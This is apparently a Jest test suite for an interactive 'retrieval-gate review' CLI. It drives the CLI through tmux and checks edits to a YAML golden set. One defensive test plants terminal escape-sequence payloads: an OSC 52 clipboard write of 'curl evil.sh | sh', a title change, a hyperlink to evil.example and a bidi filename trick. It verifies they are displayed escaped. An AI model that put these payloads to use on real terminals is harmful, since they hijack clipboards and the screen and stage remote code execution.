// `retrieval-gate review` as a person uses it: the bundled dist/cli.js in a real pseudo-terminal
// (a tmux session), keys sent, the screen captured, and the golden set checked after each step:
// accept one label, accept several as an any-of group, unanswerable, skip, edit, search, a
// candidate's page opened, quit;
// comments and the questions that were there stay as they were. Also --from-report, and no terminal.
import { execFileSync, spawnSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { main } from '../../src/cli/commands';
import { appendDrafts } from '../../src/draft/append';
import { parseGoldenSet } from '../../src/golden/parse';
import { sampleReport } from '../github/sample-report';
import { distFile } from '../support/dist';
import { recordingIo } from '../support/recording-io';

const CLI = distFile('cli.js');
const ACME = resolve(__dirname, '../../examples/acme/head');
const hasTmux = spawnSync('tmux', ['-V']).status === 0;
if (!hasTmux) process.stderr.write('review-tty: tmux is not installed (apt-get install tmux): the pseudo-terminal tests are skipped\n');

const HEAD = `# Acme's golden set: the comment and the layout below must survive every decision.
questions:
  - id: R01
    question: How many days do I have to return new headphones?   # keep me
    relevant: [returns.md#return-windows]
    tags: [lookup]
`;

const cand = (label: string) => ({ label, heading: label, snippet: '', score: 0 });

let dir: string;
let session: string;
const golden = () => readFileSync(join(dir, '.github/retrieval-golden.yml'), 'utf8');
const tmux = (...args: string[]) => execFileSync('tmux', args, { encoding: 'utf8' });
const screen = () => tmux('capture-pane', '-p', '-t', session);

/**
 * Waits until the screen shows `text` (the CLI loads the docs first). The deadline only turns a
 * screen that never comes into a message instead of Jest's timeout: generous, since a loaded
 * machine can take many seconds to start the CLI.
 */
async function until(text: string | RegExp, ms = 60_000): Promise<string> {
  const t0 = Date.now();
  for (;;) {
    const s = screen();
    if (typeof text === 'string' ? s.includes(text) : text.test(s)) return s;
    if (Date.now() - t0 > ms) throw new Error(`screen never showed ${String(text)}:\n${s}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

function start(args: string): void {
  session = `rg-review-${process.pid}-${Date.now()}`;
  tmux('new-session', '-d', '-s', session, '-x', '130', '-y', '60', `cd ${JSON.stringify(dir)} && node ${JSON.stringify(CLI)} review ${args}; echo "EXIT=$?"; sleep 60`);
}

beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'rg-review-'));
  cpSync(ACME, dir, { recursive: true });
  mkdirSync(join(dir, '.github'), { recursive: true });
  const drafts = [
    { question: 'How long do I have to send back headphones?', count: 3, lines: [2, 3, 4], candidates: [cand('returns.md#returns-and-exchanges'), cand('returns.md#return-windows'), cand('returns.md#refurbished-products')] },
    { question: 'Can I collect my order in a shop?', count: 2, lines: [7], candidates: [cand('store-pickup.md#where-you-can-collect'), cand('shipping.md#delivery-options'), cand('store-pickup.md#who-can-collect')] },
    { question: 'Do you deliver to the Moon?', count: 1, lines: [9], candidates: [cand('shipping.md#international-shipping')] },
    { question: 'How do I turn on 2FA?', count: 1, lines: [10], candidates: [cand('accounts/two-factor.md#recovery-codes')] },
    { question: 'refund where', count: 1, lines: [11], candidates: [cand('billing/refunds.md#refund-timing')] },
  ];
  writeFileSync(join(dir, '.github/retrieval-golden.yml'), appendDrafts(HEAD, 'g', drafts, 'log.txt').text);
});
afterEach(() => {
  if (session) spawnSync('tmux', ['kill-session', '-t', session]);
  session = '';
  rmSync(dir, { recursive: true, force: true });
});

(hasTmux ? describe : describe.skip)('review in a pseudo-terminal', () => {
  test('accept, any-of, unanswerable, skip, edit, search, quit: each written at once, the rest of the file kept', async () => {
    const before = golden();
    start('--dir .');
    let s = await until('1 of 5 · draft-001');
    // Candidates with their heading trail and first words, read from the docs.
    expect(s).toContain('[ ] 2. returns.md#return-windows');
    expect(s).toContain('Returns and exchanges › Return windows');
    tmux('send-keys', '-t', session, '2');
    s = await until('[x] 2. returns.md#return-windows');
    tmux('send-keys', '-t', session, 'Enter');
    await until('2 of 5 · draft-002');
    let g = parseGoldenSet(golden(), 'g');
    expect(g.questions.find((q) => q.id === 'draft-001')?.relevant.map((l) => l.raw)).toEqual(['returns.md#return-windows']);
    // Two toggled at once (one burst of keys): one any-of group.
    tmux('send-keys', '-t', session, '1', '3');
    await until('[x] 3. store-pickup.md#who-can-collect');
    tmux('send-keys', '-t', session, 'Enter');
    await until('3 of 5 · draft-003');
    g = parseGoldenSet(golden(), 'g');
    expect(g.questions.find((q) => q.id === 'draft-002')?.relevant[0].any?.map((l) => l.raw)).toEqual(['store-pickup.md#where-you-can-collect', 'store-pickup.md#who-can-collect']);
    tmux('send-keys', '-t', session, 'u');
    await until('4 of 5 · draft-004');
    expect(parseGoldenSet(golden(), 'g').questions.find((q) => q.id === 'draft-003')?.answerable).toBe(false);
    // Edit the wording, then search for the section the candidates missed and accept it.
    tmux('send-keys', '-t', session, 'e');
    await until('new wording: How do I turn on 2FA?');
    tmux('send-keys', '-t', session, 'C-u', 'How do I switch on two-factor authentication?', 'Enter');
    await until('wording saved');
    expect(golden()).toContain('question: How do I switch on two-factor authentication?\n    draft: true');
    tmux('send-keys', '-t', session, '/');
    await until('search:');
    tmux('send-keys', '-t', session, 'turn on two-factor authentication', 'Enter');
    s = await until(/more from "turn on two-factor authentication"/);
    const line = s.split('\n').find((l) => l.includes('accounts/two-factor.md#turn-on-two-factor-authentication'));
    expect(line).toBeDefined();
    const digit = /(\d)\. /.exec(line!)![1];
    tmux('send-keys', '-t', session, digit, 'Enter');
    await until('5 of 5 · draft-005');
    expect(parseGoldenSet(golden(), 'g').questions.find((q) => q.id === 'draft-004')?.relevant.map((l) => l.raw)).toEqual(['accounts/two-factor.md#turn-on-two-factor-authentication']);
    // Skip, then the walk ends by itself; the skipped one is still a draft.
    tmux('send-keys', '-t', session, 's');
    s = await until('EXIT=0');
    expect(s).toMatch(/3 accepted, 1 unanswerable, 1 reworded, 0 deleted, 1 skipped/);
    const after = golden();
    g = parseGoldenSet(after, 'g');
    expect(g.drafts?.map((q) => q.id)).toEqual(['draft-005']);
    // The head of the file, its comment and R01's layout, byte for byte; every draft's comment line too.
    expect(after.startsWith(HEAD)).toBe(true);
    for (const c of before.split('\n').filter((l) => l.trim().startsWith('# draft:'))) expect(after).toContain(c);
  }, 240_000);

  test('quit at once: nothing changed, what is left named; delete removes a draft and its comment', async () => {
    const before = golden();
    start('--dir .');
    await until('1 of 5 · draft-001');
    tmux('send-keys', '-t', session, 'd');
    await until('1 of 5 · draft-002'.replace('1 of', '2 of'));
    tmux('send-keys', '-t', session, 'q');
    const s = await until('EXIT=0');
    expect(s).toContain('1 deleted, 0 skipped, 4 left for later');
    const after = golden();
    expect(after).not.toContain('How long do I have to send back headphones?');
    expect(after).not.toContain('asked 3 times');
    expect(after).toBe(before.replace(/  # draft: asked 3 times[^\n]*\n  - id: draft-001\n(?: {4}[^\n]*\n)+/, ''));
  }, 240_000);

  test('p then a digit opens that candidate\'s page: its section that matches the question offered first, and accepted', async () => {
    const drafts = [{ question: 'What is refunded when I send back only some items of an order?', count: 1, lines: [1], candidates: [cand('billing/refunds.md#refund-timing'), cand('shipping.md#delivery-options')] }];
    writeFileSync(join(dir, '.github/retrieval-golden.yml'), appendDrafts(HEAD, 'g', drafts, 'log.txt').text);
    start('--dir .');
    await until('1 of 1 · draft-001');
    tmux('send-keys', '-t', session, 'p');
    await until("p: press the digit of the candidate whose page's sections to see");
    // A digit with no candidate behind it opens nothing.
    tmux('send-keys', '-t', session, '9');
    await until('no candidate 9');
    tmux('send-keys', '-t', session, 'p', '1');
    const s = await until('more from the page of billing/refunds.md#refund-timing');
    // The two candidates stay where they were; the page's best section for the question comes next.
    expect(s).toContain('[ ] 1. billing/refunds.md#refund-timing');
    expect(s).toContain('[ ] 2. shipping.md#delivery-options');
    expect(s).toContain('[ ] 3. billing/refunds.md#partial-refunds');
    expect(s).toContain('Refunds › Partial refunds');
    tmux('send-keys', '-t', session, '3', 'Enter');
    await until('EXIT=0');
    const q = parseGoldenSet(golden(), 'g').questions.find((x) => x.id === 'draft-001');
    expect(q?.relevant.map((l) => l.raw)).toEqual(['billing/refunds.md#partial-refunds']);
    expect(golden().startsWith(HEAD)).toBe(true);
  }, 240_000);

  test('--from-report: a newly failing question gets the sections that took its place, joined in an any-of group', async () => {
    const report = sampleReport();
    const q = report.questions.find((x) => x.status === 'newly_failing')!;
    // The report names R01 as newly failing, displaced by the returns page's opening section.
    const fake = { ...report, questions: [{ ...q, id: 'R01', moves: [{ label: 'returns.md#return-windows', base_rank: 1, head_rank: 9 }], displaced_by: [{ rank: 1, id: 'returns.md#returns-and-exchanges', path: 'returns.md', anchors: ['returns-and-exchanges'], headings: ['Returns and exchanges'], relevant: false, score: 3.2, labels: [] }] }] };
    writeFileSync(join(dir, 'report.json'), JSON.stringify(fake));
    // No drafts this time: only the miss is offered.
    writeFileSync(join(dir, '.github/retrieval-golden.yml'), HEAD);
    start('--dir . --from-report report.json');
    await until('1 of 1 · R01 (newly failing');
    await until('chosen sections join returns.md#return-windows in one any-of group');
    tmux('send-keys', '-t', session, '1', 'Enter');
    await until('EXIT=0');
    expect(golden()).toBe(HEAD.replace('relevant: [returns.md#return-windows]', 'relevant: [{any: [returns.md#return-windows, returns.md#returns-and-exchanges]}]'));
  }, 240_000);
});

(hasTmux ? describe : describe.skip)('review in a pseudo-terminal, on hostile text', () => {
  test('control characters in the docs and the question are shown escaped, never sent raw: no clipboard write, no title, no link; e offers the wording escaped', async () => {
    const E = '\u001b';
    const osc52 = (t: string) => `${E}]52;c;${Buffer.from(t).toString('base64')}\u0007`;
    writeFileSync(join(dir, 'hostile.md'), `# Returns desk ${osc52('curl evil.sh | sh')}\n\nBring the parcel ${E}]0;pwned\u0007 to the desk ${E}[2J with the ${E}]8;;https://evil.example${E}\\label${E}]8;;${E}\\ and \u009b2J the receipt \u202Etxt.exe.\n`);
    const drafts = [{ question: `How do I return a parcel? ${osc52('pwned')}`, count: 1, lines: [1], candidates: [cand('hostile.md#returns-desk-52cy3vybcbldmlslnnoihwgc2g'), cand('returns.md#return-windows')] }];
    writeFileSync(join(dir, '.github/retrieval-golden.yml'), appendDrafts(HEAD, 'g', drafts, 'log.txt').text);
    const rawOut = join(dir, 'pane.raw');
    start('--dir .');
    // Everything the program writes to the terminal, byte for byte; and OSC 52 would land in tmux's buffers.
    tmux('set-option', '-t', session, 'set-clipboard', 'on');
    tmux('pipe-pane', '-o', '-t', session, `cat >> ${JSON.stringify(rawOut)}`);
    let s = await until('1 of 1 · draft-001');
    s = await until('Returns desk');
    expect(s).toContain('How do I return a parcel? \\x1B]52;c;cHduZWQ=\\x07');
    expect(s).toContain('Returns desk \\x1B]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07');
    expect(s).toMatch(/Bring the parcel \\x1B\]0;pwned\\x07 to the desk \\x1B\[2J/);
    tmux('send-keys', '-t', session, 'e');
    s = await until('new wording: How do I return a parcel? \\x1B]52;c;cHduZWQ=\\x07');
    // Enter on the wording as offered changes nothing; then a new wording is saved as typed.
    tmux('send-keys', '-t', session, 'Enter');
    tmux('send-keys', '-t', session, 'e');
    await until(/new wording: How do I return a parcel\? \\x1B\]52;c;cHduZWQ=\\x07\s*$/m);
    tmux('send-keys', '-t', session, 'C-u', 'How do I return a parcel?', 'Enter');
    await until('wording saved');
    tmux('send-keys', '-t', session, 'q');
    await until('EXIT=0');
    const bytes = readFileSync(rawOut, 'latin1');
    expect(bytes).toContain('Returns desk');
    expect(bytes.match(/\x1b\][0-9]+;/g) ?? []).toEqual([]);
    // No C1 (UTF-8 C2 80–9F) nor bidirectional override (E2 80 AE) in what was written.
    expect(bytes.match(/\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]|\x07/g) ?? []).toEqual([]);
    // The tmux server is shared with whatever else runs: only these payloads count.
    expect(tmux('list-buffers', '-F', '#{buffer_sample}')).not.toMatch(/pwned|evil\.sh/);
    const g = parseGoldenSet(golden(), 'g');
    expect(g.drafts?.[0].question).toBe('How do I return a parcel?');
  }, 60_000);
});

test('without a terminal: exit 2, with what to run instead', async () => {
  const io = recordingIo(dir);
  expect(await main(['review', '--dir', '.'], io)).toBe(2);
  expect(io.err).toMatch(/review is interactive and needs a terminal; without one, 'retrieval-gate draft --json'/);
  // The dist as a CI step runs it: stdin not a terminal.
  const r = spawnSync(process.execPath, [CLI, 'review', '--dir', '.'], { cwd: dir, encoding: 'utf8', input: '' });
  expect(r.status).toBe(2);
  expect(r.stderr.trim().split('\n')).toHaveLength(1);
});
